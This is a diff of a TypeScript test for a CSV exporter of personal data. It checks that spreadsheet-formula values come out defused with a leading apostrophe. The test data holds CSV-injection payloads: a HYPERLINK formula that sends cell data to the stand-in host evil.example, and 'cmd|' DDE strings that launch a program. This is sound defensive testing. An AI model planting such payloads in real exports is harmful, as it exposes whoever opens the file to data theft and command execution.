@@ -11,26 +11,28 @@ const exportOf = (data: PersonalDataExport['data']): PersonalDataExport => ({
 
 describe('personalDataCsv', () => {
   it('defuses every value a spreadsheet would run as a formula', () => {
-    const hostile = {
-      nome: '=HYPERLINK("http://evil.example/?d="&A1;"Clicca")',
-      cognome: '+cmd|\' /C calc\'!A0',
-      source: '@SUM(1+1)*cmd|\' /C calc\'!A0',
-      utm_source: '-2+3+cmd|\' /C calc\'!A0',
-      utm_medium: '\t=1+1',
-    };
-    const csv = personalDataCsv(exportOf({ ebook_requests: [{ id: 7, ...hostile }] }));
-    const cells = csv
-      .slice(CSV_BOM.length)
-      .trimEnd()
-      .split('\r\n')
-      .slice(1)
-      .map((line) => line.slice(line.indexOf(';', line.indexOf(';') + 1) + 1));
-    for (const [field, value] of Object.entries(hostile)) {
-      const line = cells.find((cell) => cell.startsWith(`${field};`));
-      const written = line!.slice(field.length + 1).replace(/^"(.*)"$/s, '$1').replace(/""/g, '"');
-      // Read back as text: the apostrophe a spreadsheet shows as a text marker, then the value.
-      expect(written).toBe(`'${value}`);
-    }
+    const csv = personalDataCsv(
+      exportOf({
+        ebook_requests: [
+          {
+            id: 7,
+            nome: '=HYPERLINK("http://evil.example/?d="&A1,"Clicca")',
+            cognome: "+cmd|' /C calc'!A0",
+            source: '@SUM(1+1)',
+            utm_source: '-2+3',
+            utm_medium: '\t=1+1',
+          },
+        ],
+      }),
+    );
+    // A leading apostrophe makes the spreadsheet read the cell as text.
+    expect(csv.slice(CSV_BOM.length).split('\r\n').slice(1, -1)).toEqual([
+      `ebook_requests;7;nome;"'=HYPERLINK(""http://evil.example/?d=""&A1,""Clicca"")"`,
+      "ebook_requests;7;cognome;'+cmd|' /C calc'!A0",
+      "ebook_requests;7;source;'@SUM(1+1)",
+      "ebook_requests;7;utm_source;'-2+3",
+      "ebook_requests;7;utm_medium;'\t=1+1",
+    ]);
   });
 
   it('writes the Italian spreadsheet CSV of the admin exports, nested values as JSON', () => {
